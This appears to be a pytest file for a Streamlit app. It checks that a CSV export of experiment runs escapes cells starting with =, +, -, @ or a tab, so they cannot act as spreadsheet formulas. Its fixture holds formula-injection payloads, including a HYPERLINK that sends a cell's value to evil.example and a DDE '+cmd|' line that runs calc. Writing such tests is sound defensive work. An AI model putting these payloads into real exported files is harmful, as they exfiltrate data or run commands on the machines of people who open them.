"""The parallel page's "Download kept runs (CSV)": headers, run ids and cells that would start a
spreadsheet formula arrive as text behind a `'`; numbers arrive as numbers (issue 9, item 8)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pandas as pd
import pytest
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from lib.sweep import RUN_NAME, finish_sweep
from tests.app.conftest import open_page

LINK = '=HYPERLINK("https://evil.example/?d="&A2,"Open")'


def formula_sweep():
    runs = pd.DataFrame(
        {
            RUN_NAME: ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "plain", "\t=1"],
            LINK: [0.1, 0.2, 0.3, 0.4, 0.5, 0.6],
            "@optimizer": ["=adam", "-sgd", "=adam", "-sgd", "=adam", "-sgd"],
            "loss": [-0.5, -0.25, 0.25, 0.5, 1.0, 1.5],
        },
        index=pd.Index(["=r0", "r1", "-r2", "r3", "@r4", "r5"], name="run_id"),
    )
    return finish_sweep(runs, params=[LINK, "@optimizer"], metrics=["loss"], source="formulas")


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.fixture
def deferred(monkeypatch: pytest.MonkeyPatch) -> dict[str, Callable[[], object]]:
    """The data callables of download buttons, by file name (Streamlit runs them on click)."""
    found: dict[str, Callable[[], object]] = {}
    original = MediaFileManager.add_deferred

    def record(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
        found[str(file_name)] = data_callable
        return original(self, data_callable, mimetype, coordinates, file_name, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add_deferred", record)
    return found


def test_kept_runs_csv_carries_no_formula(app: AppTest, deferred: dict) -> None:
    app.session_state["sweep.loaded"] = formula_sweep()
    open_page(app, "pages/parallel.py")
    data = deferred["kept_runs.csv"]()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    header, body = rows[0], rows[1:]
    assert header[:3] == ["run_id", RUN_NAME, "loss"] and "'" + LINK in header and "'@optimizer" in header
    assert len(body) == 6
    fields = [field for row in rows for field in row]
    assert not [f for f in fields if f.startswith(("=", "+", "-", "@", "\t", "\r")) and not is_number(f)]
    by_id = {row[0]: row for row in body}
    assert by_id["'=r0"][1] == "'=1+1" and by_id["'=r0"][2] == "-0.5"  # a negative number stays a number
    assert {row[header.index("'@optimizer")] for row in body} == {"'=adam", "'-sgd"}
